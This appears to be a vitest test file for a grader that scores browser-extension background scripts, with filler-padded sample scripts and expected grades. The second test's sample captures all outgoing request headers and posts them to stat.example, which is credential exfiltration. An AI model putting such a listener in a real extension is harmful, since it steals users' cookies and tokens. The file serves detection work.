import { expect, it } from 'vitest';
import { graded } from '../../testing/graded.ts';

/** A script of some hundred functions, in which nearly everything may be made of everything. */
const large = (does: string): string =>
  `${Array.from({ length: 300 }, (_, i) => `function step${i}(a, b) { const one = { a, b, n: ${i} }; if (one.a > one.b + one.n) return [one.a, one.b, one.n].map((x) => x + ${i}); return one; }`).join('\n')}\n${does}`;
const TIDY =
  "const tidy = (url) => { try { const u = new URL(String(url).trim()); u.hash = ''; return u.href; } catch { return ''; } };";

it('headers that are compared with an own mark are not what a helper for addresses sends', async () => {
  const background = large(
    `${TIDY} const ask = async (url) => { const mark = crypto.randomUUID(); let id = ''; let led = ''; const isOwn = (d) => tidy(d.url) === url; chrome.webRequest.onBeforeSendHeaders.addListener((d) => { if (!isOwn(d)) return; if (d.requestHeaders.find((h) => h.name === 'x-mark')?.value === mark) id = d.requestId; }, { urls: ['https://*/*'] }, ['requestHeaders']); chrome.webRequest.onBeforeRedirect.addListener((d) => { if (d.requestId === id) led = d.redirectUrl; }, { urls: ['https://*/*'] }); await fetch(url, { headers: { 'x-mark': mark } }); return led; }; chrome.action.onClicked.addListener(async (tab) => { let at = tidy(tab.url); for (let i = 0; i < 5 && at !== ''; i++) at = tidy(await ask(at)); });`,
  );
  expect(await graded({ background })).toMatch(/^A/);
});

it('headers that are sent are told in such a script, too', async () => {
  const background = large(
    "const seen = {}; chrome.webRequest.onBeforeSendHeaders.addListener((d) => { for (const h of d.requestHeaders) seen[h.name] = h.value; }, { urls: ['https://*/*'] }, ['requestHeaders']); chrome.alarms.onAlarm.addListener(() => fetch('https://stat.example/n', { method: 'POST', body: JSON.stringify(seen) }));",
  );
  expect(await graded({ background })).toBe('F');
});
